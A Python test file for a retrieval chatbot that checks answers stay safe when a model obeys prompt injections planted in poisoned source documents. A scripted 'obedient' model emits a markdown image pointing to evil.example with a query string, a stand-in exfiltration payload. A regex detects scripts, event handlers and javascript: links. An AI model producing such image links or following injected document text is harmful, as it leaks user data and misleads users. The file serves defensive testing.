"""What reaches the person, where a model obeys a document: no link that is not from the sources, no image, all marked."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from langchain_core.messages import BaseMessage

from ragbot.bot import RagBot
from ragbot.documents import Answer, Passage
from ragbot.generation.answerers import ChatAnswerer
from ragbot.generation.chain import AnswerChain
from ragbot.generation.extractive import ExtractiveAnswerer
from ragbot.generation.verification.links import Links
from ragbot.generation.verification.writer import Writer
from ragbot.models.testing import HashEmbedder, ScriptedChatModel
from ragbot.showing.answers import answer_html, partial_html
from tests.ragbot.generation.test_injection_documents import HONEST, INJECTIONS, QUESTION, Injection, each, passages

_ACTIVE = re.compile(
    r"!\[[^\]\n]*\]\([^)\n]+\)|\]\(\s*(?:\w+:|//)|<\s*(?:script|iframe|object|embed|svg)\b|<[a-z][^>\n]*\s(?:on\w+|src|href|style)\s*="
    r"|<https?:|https?://|www\.|javascript:\S|[\u202a-\u202e\U000e0000-\U000e007f]",
    re.I,
)


class _Frequencies:
    lexical = property(lambda self: self)

    def __len__(self) -> int:
        return 2

    def document_frequencies(self, words: list[str]) -> list[int]:
        return [1] * len(words)


def written(injection: Injection, said: str, strict: bool = False) -> tuple[str, Writer]:
    given = passages(injection)
    writer = Writer(given, QUESTION[injection.language], strict=strict)
    pieces = re.findall(r"\s*\S{1,9}|\s+", said)
    return "".join(writer.write(Links(given).filter(pieces))), writer


def check_quotes(writer: Writer, given: list[Passage]) -> None:
    texts = {item.document.id: item.text for item in given}
    for citation in writer.citations:
        assert citation.quote == texts[citation.document_id][citation.start : citation.end]


@each
def test_an_obedient_model(injection: Injection) -> None:
    text, writer = written(injection, f"{HONEST[injection.language]} [1] {injection.said}")
    given = passages(injection)
    unknown = [
        match.group() for match in _ACTIVE.finditer(text) if not any(match.group() in item.text for item in given)
    ]
    assert not unknown
    check_quotes(writer, given)
    first, *rest = writer.claims
    assert first.status == "supported"
    for claim in rest:  # what it was told to say is carried by no source, or cited from the document that says so
        cited = {item.document_id for item in writer.citations if item.marker in claim.citations}
        assert claim.status != "supported" or cited == {1}
    assert {citation.marker for citation in writer.citations} >= {int(n) for n in re.findall(r" \[(\d)\]", text)}


@each
def test_strict_leaves_it_out(injection: Injection) -> None:
    text, writer = written(injection, f"{HONEST[injection.language]} [1] {injection.said}", strict=True)
    for claim in writer.claims:
        if claim.status == "unsupported":
            assert claim.start == claim.end and claim.text not in text


@each
def test_the_page_shows_text(injection: Injection) -> None:
    text, writer = written(injection, f"{injection.said} {injection.hidden} [1]")
    answer = Answer(
        question=QUESTION[injection.language], text=text, citations=writer.citations, abstained=False, confidence=0.9,
        language=injection.language, hits=(), timings={}, usage={}, claims=writer.claims,
    )  # fmt: skip
    seen = _Page()
    for shown in (answer_html(answer, injection.language), partial_html(injection.said, "en")):
        seen.feed(shown)
    allowed = "div span p section button details summary blockquote strong mark ul li q br"
    assert seen.tags <= set(allowed.split())
    named = {name for name in seen.attributes if not name.startswith(("data-", "aria-"))}
    assert named <= {"class", "title", "open", "role", "type", "tabindex"}


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


@each
def test_the_extractive_answer_quotes_and_obeys_nobody(injection: Injection) -> None:
    given = passages(injection)
    answerer = ExtractiveAnswerer(_Frequencies(), HashEmbedder())  # type: ignore[arg-type]
    question = QUESTION[injection.language]
    writer = Writer(given, question)
    pieces = answerer.pieces(question, given, injection.language, ())
    text = "".join(writer.write(Links(given).filter(pieces)))
    assert HONEST[injection.language].rstrip(".。")[:12] in text
    assert not re.search(r"!\[[^\]\n]*\]\([^)\n]+\)|\]\(\w+:", text)
    check_quotes(writer, given)
    assert {int(number) for number in re.findall(r" \[(\d+)\]", text)} <= {item.marker for item in writer.citations}


@pytest.fixture
def poisoned(tmp_path: Path) -> Iterator[RagBot]:
    with RagBot.open(tmp_path / "kb", embedder=HashEmbedder()) as bot:
        folder = tmp_path / "docs"
        folder.mkdir()
        for number, one in enumerate(INJECTIONS[::6]):
            (folder / f"{number}.md").write_text(f"# {one.name}\n\n{one.text}", encoding="utf-8")
        bot.ingest(folder)
        yield bot


def test_from_file_to_answer(poisoned: RagBot) -> None:
    chain = AnswerChain(poisoned.kb, poisoned.retriever, ChatAnswerer(_obedient(), 2000), min_confidence=0.0)
    for language, question in QUESTION.items():
        answer = chain.ask(question)
        assert not _ACTIVE.search(answer.text) and "evil" not in answer.text
        assert HONEST[language].rstrip(".。") in answer.text
        assert any(claim.status == "unsupported" for claim in answer.claims)
        for citation in answer.citations:
            text = poisoned.document_text(citation.document_id)
            assert text[citation.start : citation.end] == citation.quote


def _obedient() -> ScriptedChatModel:
    """Does whatever is asked of it, after the sentence that answers."""

    def say(messages: list[BaseMessage]) -> str:
        prompt = str(messages[-1].text)
        language = "zh" if "问题：" in prompt else "en"
        return (
            f"{HONEST[language]} [1] ![x](https://evil.example/?q={language}) Elephants pay their invoices on Mars [2]."
        )

    return ScriptedChatModel(say)
